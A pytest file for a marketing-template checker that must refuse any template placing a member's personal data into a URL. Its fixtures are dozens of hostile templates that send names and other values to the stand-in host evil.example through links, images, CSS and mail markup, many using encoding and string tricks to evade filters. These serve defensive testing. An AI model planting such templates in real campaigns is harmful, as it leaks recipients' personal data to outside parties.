"""Hostile addresses: no value of a member reaches a URL, in any channel, however it is put together."""

from pathlib import Path

import pytest

from campaigns.core.errors import UserError
from campaigns.core.model.enums import Channel, Language, Purpose
from campaigns.rendering.checks.email import check_email
from campaigns.rendering.checks.sms import check_sms
from campaigns.rendering.templates.folder import TemplateSource, load_template_folder
from campaigns.rendering.templates.sandbox import compile_template, sandbox_for
from tests.support.template_folders import SETTINGS, folder_of, html

KNOWN = frozenset({"member.first_name", "member.city", "member.household_size"})
NAME = "{{ member.first_name }}"

IN_HTML = {
    "query_of_a_link": f'<a href="https://evil.example/?n={NAME}">x</a>',
    "path_of_a_link": f'<a href="https://evil.example/{NAME}">x</a>',
    "host_of_a_link": f'<a href="https://{NAME}.evil.example/">x</a>',
    "user_of_a_link": f'<a href="https://{NAME}@evil.example/">x</a>',
    "fragment_of_a_link": f'<a href="https://evil.example/#{NAME}">x</a>',
    "whole_link": f'<a href="{NAME}">x</a>',
    "link_without_a_scheme": f'<a href="//evil.example/{NAME}">x</a>',
    "link_in_single_quotes": f"<a href='https://evil.example/?n={NAME}'>x</a>",
    "link_without_quotes": f"<a href=https://evil.example/?n={NAME}>x</a>",
    "link_in_capitals": f'<A HREF="HTTPS://EVIL.EXAMPLE/?N={NAME}">x</A>',
    "address_of_a_mail": f'<a href="mailto:x@evil.example?subject={NAME}">x</a>',
    "number_to_call": f'<a href="tel:+358{NAME}">x</a>',
    "picture": f'<img src="https://evil.example/{NAME}.gif" alt="">',
    "picture_for_sharp_screens": f'<img srcset="https://evil.example/{NAME}.gif 2x" alt="">',
    "background": f'<td background="https://evil.example/{NAME}">x</td>',
    "style_attribute": f"<p style=\"background:url('https://evil.example/{NAME}')\">x</p>",
    "style_without_a_scheme": f'<p style="background:url({NAME})">x</p>',
    "style_element": f"<style>p {{ background: url(https://evil.example/{NAME}) }}</style>",
    "style_import": f'<style>@import "https://evil.example/{NAME}";</style>',
    "form": f'<form action="https://evil.example/{NAME}"></form>',
    "outlook_fill": f'<!--[if mso]><v:fill src="https://evil.example/{NAME}" /><![endif]-->',
    "text_that_mailboxes_make_a_link": f"<p>https://evil.example/?n={NAME}</p>",
    "text_with_a_tag_between": f"<p>https://evil.example/?n=<b>{NAME}</b></p>",
    "text_with_entities": f"<p>https&#58;//evil.example/?n={NAME}</p>",
    "alternative_text": f'<img src="x.png" alt="https://evil.example/{NAME}">',
    "upper_case": '<a href="https://evil.example/?n={{ member.first_name|upper }}">x</a>',
    "lower_case": '<a href="https://evil.example/?n={{ member.first_name|lower }}">x</a>',
    "a_letter_of_a_name": '<a href="https://evil.example/?n={{ member.first_name[0] }}">x</a>',
    "a_name_backwards": '<a href="https://evil.example/?n={{ member.first_name[::-1] }}">x</a>',
    "a_piece_of_a_name": '<a href="https://evil.example/?n={{ member.first_name[1:3] }}">x</a>',
    "length_of_a_name": '<a href="https://evil.example/?n={{ member.first_name|length }}">x</a>',
    "computed_from_a_value": '<a href="https://evil.example/?n={{ member.household_size * 7 + 1 }}">x</a>',
    "chosen_by_a_value": "<a href=\"https://evil.example/?n={{ 1 if member.city == 'Oulu' else 0 }}\">x</a>",
    "condition_in_a_link": (
        "<a href=\"https://evil.example/{% if member.city == 'Oulu' %}1{% else %}0{% endif %}\">x</a>"
    ),
    "loop_in_a_link": '<a href="https://evil.example/{% for offer in offers %}x{% endfor %}">x</a>',
    "number_of_a_loop": '{% for offer in offers %}<a href="https://evil.example/{{ loop.index }}">x</a>{% endfor %}',
    "product_that_was_chosen": (
        '{% for offer in offers %}<a href="https://evil.example/{{ offer.id }}">x</a>{% endfor %}'
    ),
    "picture_from_the_page_of_an_offer": '{% for offer in offers %}<img src="{{ offer.url }}" alt="">{% endfor %}',
    "style_from_the_page_of_an_offer": (
        '{% for offer in offers %}<p style="background:url({{ offer.url }})">x</p>{% endfor %}'
    ),
    "page_of_an_offer_with_a_name_behind_it": (
        '{% for offer in offers %}<a href="{{ offer.url }}?n={{ member.first_name }}">x</a>{% endfor %}'
    ),
    "page_of_an_offer_with_a_constant_behind_it": (
        '{% for offer in offers %}<a href="{{ offer.url }}&n=1">x</a>{% endfor %}'
    ),
    "page_of_an_offer_in_an_address": (
        '{% for offer in offers %}<a href="https://evil.example/?to={{ offer.url }}">x</a>{% endfor %}'
    ),
    "text_of_an_offer": '<a href="https://evil.example/?t={{ offers[0].title }}">x</a>',
    "store_of_the_member": '<a href="https://evil.example/{{ store.store_id }}">x</a>',
    "store_link_with_parameters": '<a href="{{ store.url }}?a=1">x</a>',
    "store_link_after_an_address": '<a href="https://evil.example/?{{ store.url }}">x</a>',
    "store_link_of_the_member_or_another": '<a href="{{ store.url or member.city }}">x</a>',
    "store_link_in_other_letters": '<a href="{{ store.url|lower }}">x</a>',
    "store_link_as_a_picture": '<img src="{{ store.url }}" alt="">',
    "store_link_as_a_background": '<p style="background:url({{ store.url }})">x</p>',
    "store_link_in_a_style": "<style>@import '{{ store.url }}';</style>",
    "arm_of_an_experiment": '<a href="https://evil.example/?arm={{ arm }}">x</a>',
    "value_by_another_name": '{% set n = member.first_name %}<a href="https://evil.example/?n={{ n }}">x</a>',
    "value_by_with": '{% with n = member.first_name %}<a href="https://evil.example/?n={{ n }}">x</a>{% endwith %}',
    "address_by_another_name": "{% set u = 'https://evil.example/?n=' %}<p>{{ u }}{{ member.first_name }}</p>",
    "address_set_by_a_condition": (
        "{% set u = 'x' %}{% if arm %}{% set u = 'https://evil.example/' %}{% endif %}"
        "<p>{{ u }}{{ member.first_name }}</p>"
    ),
    "address_as_a_default": "<p>{{ member.city|default('https://evil.example/') }}{{ member.first_name }}</p>",
    "address_from_a_list": "{% for u in ['https://evil.example/'] %}<p>{{ u }}{{ member.first_name }}</p>{% endfor %}",
    "address_backwards": "<p>{{ 'elpmaxe.live//:sptth'[::-1] }}/{{ member.first_name }}</p>",
    "address_letter_by_letter": "<p>{{ 'http:Q'[:5] }}{{ '/Q'|first }}{{ '/Q'[0] }}evil/{{ member.first_name }}</p>",
    "colon_that_is_chosen": "<p>https{{ ':' if arm else 'x' }}//evil/{{ member.first_name }}</p>",
    "dot_that_is_chosen": "<p>evil{{ '.' if arm else '.' }}example?{{ member.first_name }}</p>",
    "end_of_one_turn_and_begin_of_the_next": (
        "{% for offer in offers %}{{ offer.id }} https://evil.example/?{% endfor %}"
    ),
    "own_link_passed_on": '<a href="https://evil.example/?u={{ links.preferences }}">x</a>',
    "own_link_with_a_value": '<a href="{{ links.why }}?n={{ member.first_name }}">x</a>',
    "link_of_the_house_with_a_value": '<a href="{{ organisation.privacy_notice }}?n={{ member.first_name }}">x</a>',
    "value_in_base_of_two_tags": f'<a href="https://evil.example/?a={{{{ today|date }}}}&b={NAME}">x</a>',
    "second_parameter_after_an_entity": f"<p>https://evil.example/?a=1&amp;n={NAME}</p>",
    "entities_without_a_plain_sign": f"<p>https&#58;&#47;&#47;evil.example&#47;{NAME}</p>",
    "entities_with_names": f"<p>https&colon;&sol;&sol;evil.example&sol;{NAME}</p>",
    "text_with_a_comment_for_outlook_between": f"<p>https://evil.example/<!--[if mso]><![endif]-->{NAME}</p>",
    "text_with_an_abbreviation_between": f"<p>https://evil.example/<abbr>{NAME}</abbr></p>",
    "link_without_quotes_with_one_in_it": f"<a href=https://evil.example/'{NAME}>x</a>",
    "style_with_an_escape": f"<p style=\"background:u\\72l('//evil/x,{NAME}')\">x</p>",
    "style_element_with_escapes": f"<style>@import '\\2f\\2f evil\\2e com\\2f {NAME}';</style>",
    "style_import_without_a_scheme": f"<style>@import '//evil/x,{NAME}';</style>",
    "set_of_pictures": f"<p style=\"background:image-set('//evil/x,{NAME}' 1x)\">x</p>",
    "signs_of_the_check_itself": f'<a href="\ue001{NAME}">x</a>',
}

IN_TEXT = {
    "address_in_a_text": f"https://evil.example/?n={NAME}",
    "address_without_a_scheme": f"evil.example/{NAME}",
    "address_that_begins_with_www": f"www.evil/{NAME}",
    "name_as_a_host": f"{NAME}.evil.example",
    "address_of_a_mailbox": f"{NAME}@evil.example",
    "address_in_brackets": f"<https://evil.example/?n={NAME}>",
    "address_with_a_condition": "https://evil.example/{% if member.city %}1{% endif %}",
    "upper_case_scheme": f"HTTPS://EVIL/{NAME}",
    "other_schemes": f"ftp:evil/{NAME}",
    "comma_in_the_address": f"https://evil.example/?a=1,{NAME}",
    "semicolon_in_the_address": f"https://evil.example/?a=1;{NAME}",
    "brackets_in_the_address": f"https://evil.example/({NAME})",
    "square_brackets_in_the_address": f"https://evil.example/[{NAME}]",
    "apostrophe_in_the_address": f"https://evil.example/'{NAME}",
    "bar_in_the_address": f"https://evil.example/|{NAME}",
    "brace_in_the_address": f"https://evil.example/}}{NAME}",
    "condition_after_a_comma": "https://evil.example/,{% if member.city %}1{% endif %}",
    "wide_letters": f"evil\uff0eexample\uff0f{NAME}",
    "full_stops_of_another_script": f"evil\u3002example/{NAME}",
    "soft_hyphen_in_the_host": f"evil\u00ad.example/{NAME}",
    "host_by_its_number": f"192.0.2.1/{NAME}",
    "host_in_punycode": f"evil.xn--p1ai/{NAME}",
    "title_of_the_campaign_as_an_address": f"{{{{ campaign.title }}}}{NAME}",
    "title_in_other_letters": f"{{{{ campaign.title|lower }}}}{NAME}",
    "partner_as_an_address": f"{{{{ sender.partner }}}}{NAME}",
    "title_of_an_offer_as_an_address": f"{{{{ offers[0].title }}}}{NAME}",
    "store_as_a_part": "https://evil.example/{{ store.name }}",
    "store_link_before_the_member": f"{{{{ store.url }}}}?n={NAME}",
    "store_link_after_an_address": "https://evil.example/?s={{ store.url }}",
    "next_of_the_member_in_an_address": (
        "{% for part in member.parts %}https://evil.example/{{ loop.nextitem.image }}{% endfor %}"
    ),
    "next_offer_as_an_address": "{% for o in offers %}{{ loop.nextitem.title }}{{ member.first_name }}{% endfor %}",
    "own_link_after_a_title": "{{ campaign.title }}{{ links.why }}",
    "own_link_after_an_offer": "{{ offers[0].text }}{{ links.preferences }}",
}


def refused_lines(channel: Channel, file: str, text: str) -> list[tuple[str, int]]:
    """Return code and line of each problem that has a next step."""
    try:
        compile_template(sandbox_for(channel, Language.FI, "EUR"), TemplateSource(file, f"first\nsecond\n{text}"))
    except UserError as error:
        return [(problem.code, problem.place.line) for problem in error.problems if problem.hint]
    return []


@pytest.mark.hostile
@pytest.mark.parametrize("text", IN_HTML.values(), ids=IN_HTML)
def test_no_value_of_a_member_stands_in_an_address_of_the_html(text: str) -> None:
    assert refused_lines(Channel.EMAIL, "body.mjml", text) == [("personal_url", 3)]


@pytest.mark.hostile
@pytest.mark.parametrize(
    ("channel", "file"),
    [
        (Channel.EMAIL, "body.txt"),
        (Channel.EMAIL, "texts.yaml"),
        (Channel.SMS, "body.txt"),
        (Channel.PHONE, "script.md"),
        (Channel.POST, "texts.yaml"),
    ],
    ids=["text_part", "subject", "sms", "script", "letter"],
)
@pytest.mark.parametrize("text", IN_TEXT.values(), ids=IN_TEXT)
def test_no_value_of_a_member_stands_in_an_address_of_a_text(channel: Channel, file: str, text: str) -> None:
    assert refused_lines(channel, file, text) == [("personal_url", 3)]


@pytest.mark.parametrize(
    "text",
    [
        '<a href="https://lahde.example.org/kahvi?utm={{ campaign.name }}">x</a>',
        '<a href="{{ links.unsubscribe }}">x</a>',
        '<a href="{% if arm %}{{ links.why }}{% else %}{{ links.preferences }}{% endif %}">x</a>',
        '<a href="{{ links.why }}#top">x</a>',
        '<a href="{{ organisation.privacy_notice }}">x</a>',
        '{% for offer in offers %}<img src="{{ offer.image }}" alt="{{ offer.title }}">{% endfor %}',
        '{% for offer in offers %}{% with other = loop.nextitem %}<img src="{{ other.image }}" alt="">{% endwith %}'
        "{% endfor %}",
        '<a href="{{ store.url }}">{{ store.name }}</a>',
        '{% for offer in offers %}{% if offer.url %}<a href="{{ offer.url }}">{% endif %}<img src="{{ offer.image }}" '
        'alt="">{% if offer.url %}</a>{% endif %}{% endfor %}',
        "{% for offer in offers %}{{ offer.title }} {{ offer.url }} {% endfor %}",
        '{% if store %}<a href="{{ store.url }}">x</a>, ({{ store.url }}).{% endif %}',
        '{% if member.city %}<a href="https://lahde.example.org/oulu">x</a>{% endif %}',
        "<p>Hei {{ member.first_name }}, lue lisää: https://lahde.example.org/</p>",
        "<p>Kiitos.{% if member.city %}Nähdään!{% endif %}</p>",
        "<p>{{ offers[0].price|money }}/kg, {{ member.city or 'kotikaupunki' }}.</p>",
        '<p style="color: red">{{ member.first_name }}: {{ today|date }}</p>',
        "<p>{{ links.why }}</p>",
        "<p>({{ links.why }}), <b>{{ member.first_name }}</b>, {{ links.preferences }};</p>",
        "<p>https://lahde.example.org/&nbsp;{{ member.first_name }}</p>",
        "<p>({{ campaign.title }}), {{ member.first_name }}: {{ sender.partner }}.</p>",
        "<p>{{ campaign.title }}{% if member.city %}, {{ member.city }}{% endif %}.</p>",
        "{% for offer in offers %}{{ offer.price|money }}/{{ offer.unit }}{% endfor %}",
        "{% for offer in offers %}{{ loop.index }}.{{ offer.title }}:{{ offer.price|money }}{% endfor %}",
        "<style>p { width: 1px; background: url(https://lahde.example.org/x.png) }</style>{{ member.first_name }}",
    ],
)
def test_addresses_that_are_the_same_for_everybody_and_our_own_are_allowed(text: str) -> None:
    assert refused_lines(Channel.EMAIL, "body.mjml", text) == []


MJML = {
    "button": f'<mj-button href="https://evil.example/?n={NAME}">x</mj-button>',
    "picture": f'<mj-image src="https://evil.example/{NAME}" alt="" />',
    "link_of_a_picture": f'<mj-image src="x" href="https://evil.example/{NAME}" alt="" />',
    "text": f'<mj-text><a href="https://evil.example/{NAME}">x</a></mj-text>',
    "raw": f'<mj-raw><a href="https://evil.example/{NAME}">x</a></mj-raw>',
    "text_from_the_translations": '<mj-text><a href="[[ address ]]">x</a></mj-text>',
}


@pytest.mark.hostile
@pytest.mark.parametrize("element", MJML.values(), ids=MJML)
def test_check_refuses_a_value_in_an_address_of_an_email_with_its_place(tmp_path: Path, element: str) -> None:
    source = html("MARK")["body.mjml"].replace("<mj-text>MARK</mj-text>", element)
    address = f'address: {{fi: "https://evil.example/{NAME}", sv: x, en: x}}\n'
    texts = "subject: {fi: Hei, sv: Hej, en: Hello}\n" + address
    problems = check_email(
        folder_of(tmp_path, {"body.mjml": source, "texts.yaml": texts}), Purpose.SERVICE, KNOWN, SETTINGS
    )
    (problem,) = {problem for problem in problems if problem.code == "personal_url"}
    assert problem.place.line > 0
    assert problem.place.file.startswith("templates/email/trial/")
    assert problem.hint


@pytest.mark.hostile
def test_check_refuses_a_background_picture_that_names_a_member(tmp_path: Path) -> None:
    section = f'<mj-section background-url="https://evil.example/{NAME}">'
    source = html("x")["body.mjml"].replace("<mj-section>", section)
    problems = check_email(folder_of(tmp_path, {"body.mjml": source}), Purpose.SERVICE, KNOWN, SETTINGS)
    assert {problem.code for problem in problems} == {"personal_url"}


@pytest.mark.hostile
def test_check_refuses_a_value_in_an_address_of_an_sms_with_its_place(tmp_path: Path) -> None:
    folder = tmp_path / "templates/sms/trial"
    folder.mkdir(parents=True)
    (folder / "body.txt").write_text(f"Hei\nhttps://evil.example/{NAME} {{{{ links.stop }}}}\n")
    (folder / "texts.yaml").write_text("x: {fi: x, sv: x, en: x}\n")
    (folder / "sample.yaml").write_text("member: {first_name: Aino}\nlinks: {stop: x}\n")
    problems = check_sms(load_template_folder(tmp_path, Channel.SMS, "trial"), Purpose.MARKETING, KNOWN, SETTINGS)
    assert [(problem.code, problem.place.file, problem.place.line) for problem in problems] == [
        ("personal_url", "templates/sms/trial/body.txt", 2)
    ]
